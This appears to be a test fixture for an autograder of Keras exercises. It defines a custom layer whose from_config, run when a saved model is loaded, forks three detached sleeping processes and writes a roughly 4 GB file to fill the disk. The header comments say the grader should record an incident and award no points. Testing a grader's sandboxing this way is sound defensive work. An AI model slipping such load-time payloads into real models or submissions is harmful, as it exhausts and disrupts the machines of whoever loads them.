# A layer that leaves processes behind and fills the disk where it is scored.
# expect: points 10.gap 0
# expect: incident own_code
# expect: points 02.grad full
# rest: solution
# %% 10.gap
import os, time
import keras

@keras.saving.register_keras_serializable()
class Leaves(keras.layers.Layer):
    @classmethod
    def from_config(cls, config):
        for _ in range(3):
            if os.fork() == 0:
                os.setsid()
                time.sleep(600)
        with open("large", "wb") as file:
            for _ in range(4000):
                file.write(bytes(1 << 20))
        return cls(**config)
    def call(self, x): return 0 * x[:, :1] + 0.5

braked = keras.Sequential([keras.Input((2,)), Leaves()])
braked.compile("adam", "binary_crossentropy")
